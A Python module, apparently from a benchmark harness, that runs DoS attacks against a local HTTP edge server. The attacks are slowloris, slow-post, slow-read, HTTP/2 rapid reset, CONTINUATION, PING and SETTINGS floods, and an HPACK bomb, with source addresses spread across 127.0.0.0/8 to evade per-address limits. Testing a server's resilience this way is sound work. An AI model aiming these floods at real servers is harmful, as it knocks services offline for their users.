"""One attack, in a process of its own: `python -m bench.attack.attacker KIND HTTP_PORT HTTPS_PORT CONNECTIONS`.

Goes on until it is stopped; a connection that the edge ends is made again, as an attacker would. Connections come from
many addresses of 127.0.0.0/8, because an edge bounds those of each.
"""

import asyncio
import contextlib
import itertools
import os
import resource
import socket
import ssl
import sys
from collections.abc import Awaitable, Callable, Iterator

import hpack
import hyperframe.frame as frames

from bench.content import HOST, ONE_KILOBYTE, ONE_MEGABYTE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frames.SettingsFrame(0, {}).serialize()
GET = f"GET {ONE_MEGABYTE.path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
HEAD = f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ".encode()
POST = f"POST /post HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n".encode()
DRIP_SECONDS = 2.0
AT_ONCE = 200
"""Connections that are being made at a time: the edge's backlog is not what is attacked."""

Act = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


def slow(begin: bytes) -> Act:
    """Sends the beginning, then a byte now and then."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(begin)
        ended = asyncio.create_task(reader.read())
        while not ended.done():
            writer.write(b"x")
            await asyncio.wait([ended], timeout=DRIP_SECONDS)

    return act


async def slow_read(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Asks for a lot and takes a little of it now and then."""
    writer.write(GET)
    while await reader.read(64):  # noqa: ASYNC110 - it is the pause that is meant
        await asyncio.sleep(DRIP_SECONDS)


def flood(begin: Callable[[], bytes], pieces: Callable[[], Iterator[bytes]]) -> Act:
    """Sends frames as fast as they are taken, on a connection of HTTP/2."""

    async def act(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        ended = asyncio.create_task(reader.read())
        writer.write(PREFACE + begin())
        for piece in pieces():
            if ended.done():
                return
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(0)

    return act


def _nothing() -> bytes:
    return b""


def _open_head() -> bytes:
    return frames.HeadersFrame(1, _fields()).serialize()


def _fields(*more: tuple[str, str], path: str = ONE_KILOBYTE.path) -> bytes:
    lines = [(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", path), *more]
    return bytes(hpack.Encoder().encode(lines))


def _again(frame: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: itertools.repeat(frame * 50)


def _resets(path: str) -> Iterator[bytes]:
    block = _fields(path=path)
    for stream in range(1, 1 << 30, 2):
        asked = frames.HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
        yield asked + frames.RstStreamFrame(stream, error_code=8).serialize()


def _bombs() -> Iterator[bytes]:
    block = _fields(("x-a", "b" * 3000)) + b"\xbe" * 10_000
    for stream in range(1, 1 << 30, 2):
        yield frames.HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()


ATTACKS: dict[str, tuple[bool, Act]] = {
    "slowloris": (False, slow(HEAD)),
    "slow-post": (False, slow(POST)),
    "slow-read": (False, slow_read),
    "h2-rapid-reset": (True, flood(_nothing, lambda: _resets(ONE_KILOBYTE.path))),
    # What nobody waits for is not stored: each of these costs a request to the origin, which has the viewer's CPU here.
    "h2-reset-misses": (True, flood(_nothing, lambda: _resets(ONE_MEGABYTE.path))),
    "h2-continuation": (True, flood(_open_head, _again(frames.ContinuationFrame(1, b"").serialize()))),
    "h2-ping": (True, flood(_nothing, _again(frames.PingFrame(0, b"12345678").serialize()))),
    "h2-settings": (True, flood(_nothing, _again(frames.SettingsFrame(0, {}).serialize()))),
    "h2-hpack-bomb": (True, flood(_nothing, _bombs)),
}
"""Name -> whether it is over TLS, and what it does on each connection."""


async def attack(kind: str, http: int, https: int, connections: int) -> None:
    """Keeps up so many connections that do what the attack does."""
    is_tls, act = ATTACKS[kind]
    gate = asyncio.Semaphore(AT_ONCE)
    await asyncio.gather(*(_keep(act, https if is_tls else http, is_tls, n, gate) for n in range(connections)))


async def _keep(act: Act, port: int, is_tls: bool, number: int, gate: asyncio.Semaphore) -> None:  # noqa: FBT001 - of a table
    address = f"127.{1 + number // 62_500}.{number // 250 % 250}.{1 + number % 250}"
    while True:
        # The edge ends connections in every way there is: that is the point.
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            async with gate:
                reader, writer = await _connect(address, port, is_tls)
            try:
                await act(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.01)


async def _connect(
    address: str,
    port: int,
    is_tls: bool,  # noqa: FBT001 - of a table
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    stream = socket.socket()
    stream.setblocking(False)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    stream.bind((address, 0))
    try:
        await asyncio.get_running_loop().sock_connect(stream, ("127.0.0.1", port))
        context, name = (_context(), HOST) if is_tls else (None, None)
        return await asyncio.open_connection(sock=stream, limit=1024, ssl=context, server_hostname=name)
    except BaseException:
        stream.close()
        raise


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


if __name__ == "__main__":
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # The viewer beside it shares its CPU, and is what is measured.
    os.nice(10)
    asyncio.run(attack(sys.argv[1], *(int(number) for number in sys.argv[2:])))
